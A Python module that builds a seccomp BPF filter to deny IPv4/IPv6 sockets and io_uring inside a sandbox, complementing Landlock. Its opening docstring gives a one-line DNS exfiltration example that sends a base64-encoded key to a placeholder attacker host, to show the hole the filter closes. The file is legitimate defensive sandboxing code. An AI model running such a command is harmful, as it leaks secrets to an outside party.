"""A seccomp filter that takes IP networking away: ``socket(AF_INET | AF_INET6, ...)`` fails
with ``EACCES``, and so does ``io_uring_setup`` (io_uring could make sockets without the
system call). Unix sockets and everything else stay.

Landlock (ABI 4+) restricts TCP ``connect`` and ``bind`` only: UDP stays open, and a DNS
query is a way out (``host $(base64 key).attacker.example``). This filter closes it where
Landlock is the mechanism; bubblewrap unshares the whole network namespace instead.

Like Landlock it belongs to the calling thread and everything that thread starts, cannot
be removed, and needs ``no_new_privs`` (set first by ``LandlockRuleset``). Built once per
sandbox in the server; installed between fork and exec, or by a thread that starts
commands (``landlock.py``), with one ``prctl``.
"""

from __future__ import annotations

import ctypes
import errno
import platform
import socket
import struct

_PR_SET_SECCOMP = 22
_SECCOMP_MODE_FILTER = 2

# Classic BPF (linux/filter.h, linux/seccomp.h).
_LD_W_ABS = 0x20  # BPF_LD | BPF_W | BPF_ABS
_JEQ_K = 0x15  # BPF_JMP | BPF_JEQ | BPF_K
_JGE_K = 0x35  # BPF_JMP | BPF_JGE | BPF_K
_RET_K = 0x06  # BPF_RET | BPF_K
_ALLOW = 0x7FFF0000
_ERRNO = 0x00050000
_KILL_PROCESS = 0x80000000
# struct seccomp_data: nr, arch, instruction pointer, args[6] (64-bit each; the low half
# first on the little-endian machines below).
_NR, _ARCH, _ARG0 = 0, 4, 16

_AUDIT_ARCH_X86_64 = 0xC000003E
_AUDIT_ARCH_I386 = 0x40000003
_AUDIT_ARCH_AARCH64 = 0xC00000B7
_X32_BIT = 0x40000000

# Per architecture: (audit arch, socket, io_uring_setup).
_NATIVE = {
    "x86_64": (_AUDIT_ARCH_X86_64, 41, 425),
    "aarch64": (_AUDIT_ARCH_AARCH64, 198, 425),
}


class _SockFilter(ctypes.Structure):
    _fields_ = [
        ("code", ctypes.c_ushort),
        ("jt", ctypes.c_ubyte),
        ("jf", ctypes.c_ubyte),
        ("k", ctypes.c_uint32),
    ]


class _SockFprog(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.POINTER(_SockFilter))]


_libc = ctypes.CDLL(None, use_errno=True)
_prctl = _libc.prctl


class SeccompError(OSError):
    """The filter cannot be built or installed here."""


Jump = str | int  # a label, or 0: the next instruction
Instruction = tuple[int, Jump, Jump, int]


def _program() -> list[str | Instruction]:
    """The filter: instructions (code, jump if true, jump if false, k) and labels."""
    machine = platform.machine()
    if platform.system() != "Linux" or machine not in _NATIVE:
        raise SeccompError(errno.EOPNOTSUPP, f"no seccomp network filter for {machine}")
    arch, sock, uring = _NATIVE[machine]
    deny = _ERRNO | errno.EACCES
    program: list[str | Instruction] = [
        (_LD_W_ABS, 0, 0, _ARCH),
        (_JEQ_K, 0, "compat", arch),
        (_LD_W_ABS, 0, 0, _NR),
    ]
    if machine == "x86_64":
        program.append((_JGE_K, "deny", 0, _X32_BIT))  # x32 system calls: none allowed
    program += [
        (_JEQ_K, "domain", 0, sock),
        (_JEQ_K, "deny", 0, uring),
        (_RET_K, 0, 0, _ALLOW),
        "compat",
    ]
    if machine == "x86_64":  # 32-bit programs: socketcall cannot be looked into
        program += [
            (_JEQ_K, 0, "kill", _AUDIT_ARCH_I386),
            (_LD_W_ABS, 0, 0, _NR),
            (_JEQ_K, "deny", 0, 102),  # socketcall
            (_JEQ_K, "domain", 0, 359),  # socket
            (_JEQ_K, "deny", 0, 425),  # io_uring_setup
            (_RET_K, 0, 0, _ALLOW),
        ]
    program += [
        "kill",
        (_RET_K, 0, 0, _KILL_PROCESS),  # an architecture we cannot read
        "domain",
        (_LD_W_ABS, 0, 0, _ARG0),
        (_JEQ_K, "deny", 0, socket.AF_INET),
        (_JEQ_K, "deny", 0, socket.AF_INET6),
        (_RET_K, 0, 0, _ALLOW),
        "deny",
        (_RET_K, 0, 0, deny),
    ]
    return program


def _assemble(program: list[str | Instruction]) -> bytes:
    labels: dict[str, int] = {}
    code: list[Instruction] = []
    for item in program:
        if isinstance(item, str):
            labels[item] = len(code)
        else:
            code.append(item)

    def offset(target: Jump, at: int) -> int:
        if isinstance(target, int):
            return target
        jump = labels[target] - at - 1
        assert 0 <= jump < 256
        return jump

    out = b""
    for at, (op, jt, jf, k) in enumerate(code):
        out += struct.pack("=HBBI", op, offset(jt, at), offset(jf, at), k)
    return out


class NoInetFilter:
    """The filter, built once; ``install`` applies it to the calling thread."""

    def __init__(self) -> None:
        raw = _assemble(_program())
        count = len(raw) // struct.calcsize("=HBBI")
        self._filters = (_SockFilter * count).from_buffer_copy(raw)
        self._prog = _SockFprog(count, self._filters)

    def install(self) -> None:
        """Raises ``SeccompError`` when it cannot (``no_new_privs`` must be set)."""
        if _prctl(_PR_SET_SECCOMP, _SECCOMP_MODE_FILTER, ctypes.byref(self._prog), 0, 0) != 0:
            code = ctypes.get_errno()
            raise SeccompError(code, f"seccomp filter: {errno.errorcode.get(code, code)}")
